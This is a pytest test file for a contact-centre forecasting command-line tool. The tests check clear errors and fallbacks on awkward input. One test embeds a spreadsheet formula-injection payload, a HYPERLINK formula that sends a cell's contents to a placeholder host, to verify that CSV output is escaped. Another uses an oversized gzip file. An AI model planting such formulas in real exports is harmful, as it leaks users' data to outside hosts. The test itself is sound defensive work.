"""The forecast command on awkward input: clear notes or errors, sensible fallbacks, never a traceback.

    shiftcast forecast --history F [--events E] --horizon-days N --out D
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from ui.cli import main

TZ = "America/New_York"


def counts(days: int, channel: str = "voice", start: str = "2026-01-05", base: float = 20.0, seed: int = 0) -> pd.DataFrame:
    """Hourly interval counts peaking at 11:00 New York time, quieter at weekends."""
    ds = pd.date_range(f"{start}T05:00Z", periods=days * 24, freq="60min")
    local = ds.tz_convert(TZ)
    shape = np.exp(-0.5 * ((local.hour - 11) / 3.0) ** 2) + 0.05
    lam = base * shape * np.where(local.day_of_week >= 5, 0.6, 1.0)
    vol = np.random.default_rng(seed).poisson(lam)
    return pd.DataFrame({"ds": ds.strftime("%Y-%m-%dT%H:%M:%SZ"), "channel": channel, "tz": TZ, "volume": vol, "aht_s": 300})


def run(tmp_path, capsys, history: pd.DataFrame, horizon: int, events: str | None = None, name: str = "history.csv"):
    h = tmp_path / name
    history.to_csv(h, index=False)
    args = ["forecast", "--history", str(h), "--horizon-days", str(horizon), "--out", str(tmp_path / "out")]
    if events is not None:
        (tmp_path / "events.csv").write_text(events)
        args += ["--events", str(tmp_path / "events.csv")]
    code = main(args)
    cap = capsys.readouterr()
    text = cap.out + cap.err
    assert "Traceback" not in text
    return code, " ".join(text.split()), tmp_path / "out"  # the console wraps long lines


def forecast(out) -> pd.DataFrame:
    f = pd.read_csv(out / "forecast.csv")
    f["ds"] = pd.to_datetime(f["ds"])
    return f


def test_too_little_history_for_a_seasonal_model_falls_back_and_says_so(tmp_path, capsys):
    code, text, out = run(tmp_path, capsys, counts(12), 7)
    assert code == 0
    assert "only 12 complete days of history (ets needs 21); using seasonal naive" in text
    assert "too short to backtest" in text and "bands are not calibrated" in text
    f = forecast(out)
    assert (f["model"] == "snaive").all() and len(f) == 7 * 24 and f["volume"].sum() > 0


def test_under_a_week_of_history_is_a_clear_error_and_writes_nothing(tmp_path, capsys):
    code, text, out = run(tmp_path, capsys, counts(5), 7)
    assert code == 2
    assert "error: bad input" in text and "the history covers 5.0 days; at least 7 days are needed" in text
    assert not (out / "forecast.csv").exists()


def test_an_all_zero_series_forecasts_zero_with_a_note(tmp_path, capsys):
    h = pd.concat([counts(42), counts(42, channel="social").assign(volume=0, aht_s="")])
    code, text, out = run(tmp_path, capsys, h, 7)
    assert code == 0 and "social/America/New_York: no contacts in the history; forecast is zero" in text
    f = forecast(out)
    assert f.loc[f["channel"] == "social", "volume"].eq(0).all()
    assert f.loc[f["channel"] == "voice", "volume"].sum() > 0


def test_a_series_that_starts_late_in_a_contact_log_starts_at_its_first_contact(tmp_path, capsys):
    rows = []
    for channel, skip in (("voice", 0), ("chat", 35)):
        c = counts(70, channel=channel, seed=skip)
        c = c.iloc[skip * 24 :]
        for ds, n in zip(c["ds"], c["volume"]):
            rows += [(ds, channel, TZ)] * int(n)
    log = pd.DataFrame(rows, columns=["created_at", "channel", "tz"])
    code, text, out = run(tmp_path, capsys, log, 7, name="contacts.csv")
    assert code == 0
    assert "chat/America/New_York: no contacts before 2026-02-09 (America/New_York), 35 days after the history begins" in text
    f = forecast(out)
    chat, voice = (f.loc[f["channel"] == c, "volume"].sum() for c in ("chat", "voice"))
    assert chat == pytest.approx(voice, rel=0.15)
    acc = pd.read_csv(out / "accuracy.csv")
    assert set(acc["model"]) <= {"snaive", "ets", "ets_calendar", "auto"}  # no prophet unless asked for


def test_a_series_that_starts_late_in_interval_counts_is_backtested_once_it_has_history(tmp_path, capsys):
    h = pd.concat([counts(70), counts(70, channel="chat").iloc[40 * 24 :]])
    code, text, out = run(tmp_path, capsys, h, 7)
    assert code == 0
    acc = pd.read_csv(out / "accuracy.csv")
    chat = acc[(acc["channel"] == "chat") & (acc["horizon"] == "all")]
    assert set(chat["model"]) == {"snaive", "ets", "auto"} and (chat["wape"] < 0.6).all()
    assert forecast(out).groupby("channel")["volume"].sum()["chat"] > 0


def test_an_unknown_event_kind_is_forecast_without_effect_with_a_hint(tmp_path, capsys):
    events = (
        "event,kind,start,end,uplift\n"
        "Sale A,flash_sale,2026-01-22T15:00:00Z,2026-01-22T20:00:00Z,\n"
        "Sale B,flash_sale,2026-02-05T15:00:00Z,2026-02-05T20:00:00Z,\n"
        "Mystery,mystery_drop,2026-02-18T15:00:00Z,2026-02-18T20:00:00Z,\n"
        "Sale C,flashsale,2026-02-19T15:00:00Z,2026-02-19T20:00:00Z,\n"
    )
    h = counts(42)
    code, text, out = run(tmp_path, capsys, h, 7, events)
    assert code == 0
    assert "event 'Mystery' has no uplift and no past occurrence of its kind to learn from" in text
    assert "event 'Sale C' has no uplift" in text and "did you mean flash_sale?" in text
    f = forecast(out).set_index("ds")
    assert f.loc["2026-02-18 15:00Z":"2026-02-18 19:00Z", "event_volume"].eq(0).all()


def test_overlapping_events_multiply_and_repeated_rows_count_once(tmp_path, capsys):
    events = (
        "event,kind,start,end,uplift\n"
        "Winter promo,promotion,2026-02-17T00:00:00Z,2026-02-20T00:00:00Z,1.5\n"
        "Flash,flash_sale,2026-02-18T15:00:00Z,2026-02-18T20:00:00Z,2\n"
        "Flash,flash_sale,2026-02-18T15:00:00Z,2026-02-18T20:00:00Z,2\n"
    )
    code, text, out = run(tmp_path, capsys, counts(42), 7, events)
    assert code == 0
    assert "listed more than once with the same kind, times and scope, counted once: 'Flash'" in text
    assert "events 'Flash' and 'Winter promo' overlap in the horizon; where both act their effects are multiplied" in text
    f = forecast(out).set_index("ds")
    both = f.loc["2026-02-18 15:00Z":"2026-02-18 19:00Z"]
    assert (both["events"] == "Winter promo; Flash").all()
    base = both["volume"] - both["event_volume"]
    np.testing.assert_allclose(both["volume"], 3.0 * base, rtol=1e-6)


def test_a_horizon_longer_than_the_history_is_forecast_with_a_note(tmp_path, capsys):
    code, text, out = run(tmp_path, capsys, counts(24), 40)
    assert code == 0
    assert "the horizon (40 days) is longer than the history (24 days)" in text
    f = forecast(out)
    assert len(f) == 40 * 24 and f["volume"].notna().all() and (f["volume_lo"] <= f["volume_hi"]).all()


FORMULA = '=HYPERLINK("http://x.example/?"&A1;"click")'


def test_an_event_named_like_a_formula_is_written_formula_safe(tmp_path, capsys):
    events = "event,kind,start,end,uplift\n" + '"' + FORMULA.replace('"', '""') + '",flash_sale,2026-02-18T15:00:00Z,2026-02-18T20:00:00Z,1.5\n'
    code, _, out = run(tmp_path, capsys, counts(42), 7, events)
    assert code == 0
    f = pd.read_csv(out / "forecast.csv", keep_default_na=False, dtype=str)
    marked = f[f["events"].str.contains("HYPERLINK", regex=False)]
    assert len(marked) >= 5 and marked["events"].eq("'" + FORMULA).all()
    for name in ("forecast.csv", "accuracy.csv"):
        cells = [c for row in pd.read_csv(out / name, keep_default_na=False, dtype=str).itertuples(index=False) for c in row]
        assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells), name
        assert not any(c.startswith("-") and not c.lstrip("-").replace(".", "", 1).replace("e", "", 1).isdigit() for c in cells), name


def test_a_gzip_history_that_unpacks_beyond_the_limit_is_bad_input(tmp_path, capsys, monkeypatch):
    import gzip

    from forecast.io import files

    monkeypatch.setattr(files, "MAX_FILE_BYTES", 20_000)
    h = tmp_path / "history.csv.gz"
    h.write_bytes(gzip.compress(counts(42).to_csv(index=False).encode()))
    code = main(["forecast", "--history", str(h), "--horizon-days", "7", "--out", str(tmp_path / "out")])
    cap = capsys.readouterr()
    text = " ".join((cap.out + cap.err).split())
    assert code == 2 and "Traceback" not in text
    assert "history.csv.gz: unpacks to more than 0.02 MB; the limit is 0.02 MB of uncompressed data per file" in text
    assert not (tmp_path / "out" / "forecast.csv").exists()


def test_a_volume_beyond_any_contact_centre_is_bad_input_with_line_and_column(tmp_path, capsys):
    h = counts(42)
    h["volume"] = h["volume"].astype(object)
    h.loc[10, "volume"] = "1e308"
    code, text, out = run(tmp_path, capsys, h, 7)
    assert code == 2
    assert "history.csv, line 12, column 'volume': 1e+308 contacts in one 60-minute interval is beyond any real contact centre" in text
    assert not (out / "forecast.csv").exists()


@pytest.mark.parametrize("kind", ["parquet", "folder", "duckdb_table", "duckdb_query"])
def test_history_from_parquet_or_duckdb_gives_the_csvs_forecast(tmp_path, capsys, kind):
    import duckdb

    history = counts(28)
    (tmp_path / "csv").mkdir()
    code, _, csv_out = run(tmp_path / "csv", capsys, history, 7)
    assert code == 0
    typed = history.assign(ds=pd.to_datetime(history["ds"], utc=True))
    if kind == "parquet":
        typed.to_parquet(tmp_path / "h.parquet", index=False)
        source = str(tmp_path / "h.parquet")
    elif kind == "folder":
        (tmp_path / "history").mkdir()
        for week, part in typed.groupby(typed["ds"].dt.isocalendar().week):
            part.to_parquet(tmp_path / "history" / f"week-{int(week):02d}.parquet", index=False)
        source = str(tmp_path / "history")
    else:
        con = duckdb.connect(str(tmp_path / "shop.duckdb"))
        con.register("frame", typed)
        con.execute("CREATE TABLE history AS SELECT * FROM frame")
        con.execute("CREATE TABLE calls AS SELECT ds, channel, tz, volume AS contacts, aht_s FROM frame")
        con.close()
        source = (f"duckdb:{tmp_path / 'shop.duckdb'}::history" if kind == "duckdb_table"
                  else f"duckdb:{tmp_path / 'shop.duckdb'}::SELECT ds, channel, tz, contacts AS volume, aht_s FROM calls")
    code = main(["forecast", "--history", source, "--horizon-days", "7", "--out", str(tmp_path / "out")])
    cap = capsys.readouterr()
    assert code == 0, cap.out + cap.err
    pd.testing.assert_frame_equal(forecast(tmp_path / "out"), forecast(csv_out))


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("duckdb:{tmp}/missing.duckdb::calls", "missing.duckdb: database file not found"),
        ("duckdb:{tmp}/shop.duckdb::SELECT nothing FROM calls", "shop.duckdb query: the query failed"),
        ("duckdb:{tmp}/shop.duckdb::calls", "shop.duckdb::calls: has columns but no data rows"),
        ("{tmp}/h.parquet", "h.parquet, row 3, column 'volume': expected a contact count of 0 or more, found 'lots'"),
    ],
)
def test_bad_parquet_or_duckdb_history_exits_2_naming_file_and_row(tmp_path, capsys, source, expected):
    import duckdb

    bad = counts(3).astype({"volume": str})
    bad.loc[2, "volume"] = "lots"
    bad.to_parquet(tmp_path / "h.parquet", index=False)
    con = duckdb.connect(str(tmp_path / "shop.duckdb"))
    con.execute("CREATE TABLE calls (ds TIMESTAMPTZ)")
    con.close()
    code = main(["forecast", "--history", source.format(tmp=tmp_path), "--horizon-days", "7", "--out", str(tmp_path / "out")])
    cap = capsys.readouterr()
    text = " ".join((cap.out + cap.err).split())
    assert code == 2 and "Traceback" not in text
    assert expected in text
